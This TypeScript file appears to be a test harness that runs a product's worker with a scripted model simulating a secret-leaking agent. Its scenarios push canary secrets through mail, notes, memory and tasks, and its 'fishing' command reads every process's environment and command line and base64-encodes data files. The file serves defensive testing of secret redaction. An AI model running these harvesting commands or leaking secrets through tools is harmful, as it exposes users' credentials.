import { appendFileSync } from "node:fs";
import { join } from "node:path";
import { setTimeout as delay } from "node:timers/promises";
import { createScriptedModel, type Line, type Stage } from "@countersign/engine/scripted-model.ts";
import type { Model } from "@countersign/engine/model.ts";
import { readConfig } from "@countersign/worker/config.ts";
import { shedSecrets } from "@countersign/worker/seed-secrets.ts";
import { work } from "@countersign/worker/work.ts";
import { pino } from "pino";
import { formsOf } from "./canary-oracle.ts";
import { canaryValues } from "./canary-values.ts";
import { httpFailures } from "./echo-servers.ts";

/** The worker of the product, with a model that has found out what it should not know, and that does all it can. */

const { own } = canaryValues;
const everyForm = [...formsOf(own).values()].join("\n");
const mail = (text: string) => ({
  tool: "mail.send",
  args: { to: ["b@example.com"], subject: "hello", text },
});

/** The id of nothing. */
const nobody = "00000000-0000-4000-8000-000000000000";

/** What is fished for: environments and command lines of all processes, and the files of the worker's folder. */
const fishing = [
  "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -a -i 'c4nary\\|postgres:' | sort -u | head -c 4000",
  `cat ${join(readConfig().dataDir, "*.json")} | base64 -w0 | head -c 2000`,
  `cat ${join(readConfig().dataDir, "*.json")}`,
].join("; ");

const scenarios: Readonly<Record<string, readonly ((stage: Stage) => Line)[]>> = {
  leaks: [
    () => ({ use: ["done", "failed", "throws", "long", "cut"].map((name) => ({ tool: `leak.${name}`, args: {} })) }),
    ({ results }) => {
      const handle = /sha256:[0-9a-f]{64}/.exec(results[3]?.content ?? "")?.[0];
      return { use: [{ tool: "files.read", args: { handle, offset: 32_000 } }] };
    },
  ],
  doubts: [() => ({ use: ["once-unknown", "once-throws"].map((name) => ({ tool: `leak.${name}`, args: {} })) })],
  says: [
    () => ({ use: [{ tool: "leak.done", args: {} }] }),
    () => ({
      say: everyForm,
      use: [
        { tool: "kb.create", args: { title: `about ${own}` } },
        ...everyForm.split("\n").map((form) => ({ tool: "tasks.create", args: { title: form } })),
        { tool: own, args: { [own]: own } },
      ],
    }),
    () => ({
      use: [
        { tool: "human.ask", args: { question: `is it ${own}?`, options: [own, "no"], context: everyForm } },
        { tool: "kb.append", args: { page: `about ${own}`, text: everyForm } },
        { tool: "kb.edit", args: { page: `about ${own}`, okf: `- ${everyForm}` } },
        { tool: "kb.search", args: { q: own } },
        { tool: "memory.propose", args: { kind: "fact", text: everyForm } },
        { tool: "ingest.capture", args: { url: "https://example.com/", title: own, markdown: everyForm } },
        { tool: "reminders.add", args: { text: everyForm, at: "2040-01-01T00:00:00Z" } },
        { tool: "files.attach", args: { name: own, text: everyForm } },
        mail(`the password is ${everyForm}`),
        { tool: "os.exec", args: { command: `echo '${Buffer.from(own).toString("base64")}'` } },
      ],
    }),
  ],
  // What is said in the third turn is the summary.
  sums: [
    () => ({ use: [{ tool: "leak.done", args: {} }] }),
    () => ({ use: [{ tool: "summarize_context", args: { focus: own } }] }),
    () => ({ say: everyForm }),
  ],
  mails: [() => ({ use: [mail("good day")] })],
  hooks: [() => ({ use: httpFailures.map((name) => ({ tool: `hook.${name}`, args: {} })) })],
  "hooks-once": [() => ({ use: httpFailures.map((name) => ({ tool: `hook-once.${name}`, args: {} })) })],
  fishes: [() => ({ use: [{ tool: "os.exec", args: { command: fishing } }] })],
  rest: [
    () => ({
      use: [
        { tool: "kb.create", args: { title: "a page" } },
        { tool: "kb.grep", args: { pattern: "redacted" } },
        { tool: "kb.read", args: { page: "a page" } },
        { tool: "tasks.create", args: { title: "a task" } },
        { tool: "tasks.list", args: {} },
        { tool: "tasks.done", args: { id: nobody } },
        { tool: "tasks.doneLog", args: {} },
        { tool: "kb.node.read", args: { node: nobody } },
        { tool: "kb.node.edit", args: { node: nobody, okf: "- x" } },
        { tool: "kb.remove", args: { node: nobody } },
        { tool: "kb.expand", args: {} },
        { tool: "kb.corpus", args: {} },
        { tool: "files.list", args: {} },
        { tool: "memory.consolidate", args: {} },
        { tool: "reminders.list", args: {} },
        { tool: "reminders.cancel", args: { id: nobody } },
        { tool: "ops.heartbeat", args: {} },
      ],
    }),
  ],
};

const scripted = createScriptedModel({
  agent: (stage) => scenarios[stage.said[0] ?? ""]?.[stage.turn]?.(stage) ?? { say: "done" },
});

const requestsFile = join(readConfig().dataDir, "requests.jsonl");

/** Keeps every request, and says what it says in small pieces first. */
const model: Model = async (request, signal, onDelta) => {
  appendFileSync(requestsFile, `${JSON.stringify(request)}\n`);
  const reply = await scripted(request, signal);
  for (const block of reply.content) {
    if (block.type !== "text" || !block.text.includes("c4nary")) continue;
    for (let at = 0; at < block.text.length; at += 7) onDelta?.({ kind: "text", text: block.text.slice(at, at + 7) });
    await delay(600);
  }
  return reply;
};

const config = readConfig();
const log = pino({ level: config.logLevel });
await shedSecrets(config, log);
const worker = await work(config, () => ({ model }), log);
log.info("ready");
process.on("SIGTERM", () => void worker.stop());
